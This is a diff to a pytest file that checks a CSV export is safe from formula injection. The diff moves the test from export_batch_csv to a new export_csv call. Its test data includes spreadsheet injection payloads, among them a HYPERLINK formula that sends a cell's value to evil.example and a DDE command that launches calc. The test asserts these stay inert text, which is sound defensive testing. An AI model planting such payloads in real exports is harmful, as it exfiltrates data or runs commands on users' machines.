@@ -1,9 +1,10 @@
-"""The batch CSV export is formula-safe (issue 12, item 4): cells a spreadsheet would run
-stay text, control characters go, and every run is one row, read back with the csv module."""
+"""The CSV export is formula-safe (issue 12, item 4): cells a spreadsheet would run stay
+text, control characters go, and every run is one row, read back with the csv module."""
 
 from __future__ import annotations
 
 import csv
+import io
 from collections.abc import Iterator
 
 import pytest
@@ -12,7 +13,9 @@ import sqlalchemy as sa
 from db import store
 from db.connection import get_engine
 from engine.orchestration.batches import start_batch
-from engine.orchestration.review import export_batch_csv, reject_run
+from db.exports import ExportFilter
+from engine.orchestration.export import export_csv
+from engine.orchestration.review import reject_run
 from tests.support.batches import JOB, Tailor, clear_queue, make_tailor
 
 NAMES = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
@@ -32,16 +35,14 @@ def tailor(sqlite_url: str, redis_url: str, monkeypatch) -> Iterator[Tailor]:
     clear_queue(tailor)
 
 
-def test_export_cells_are_never_formulas_and_each_run_is_one_row(tailor: Tailor, tmp_path):
+def test_export_cells_are_never_formulas_and_each_run_is_one_row(tailor: Tailor):
     settings = tailor.settings
     ids = [str(i) for i in range(1, len(NAMES) + 1)]
     batch_id = start_batch(settings, ids, JOB, "tester")
     first = store.run_steps(settings.database_url, batch_id)[0].id
     reject_run(settings, first, "=1+2", note="@evil")
-    path = tmp_path / "batch.csv"
-    assert export_batch_csv(settings, batch_id, path) == len(NAMES)
-    with open(path, newline="") as file:
-        rows = list(csv.DictReader(file))
+    text = export_csv(settings, ExportFilter(batch_id=batch_id, include_all=True))
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
     assert len(rows) == len(NAMES)
     names = [row["candidate_name"] for row in rows]
     assert names[:6] == [f"'{n}" for n in NAMES[:6]]  # "\t=1+1" too: a reader strips the tab
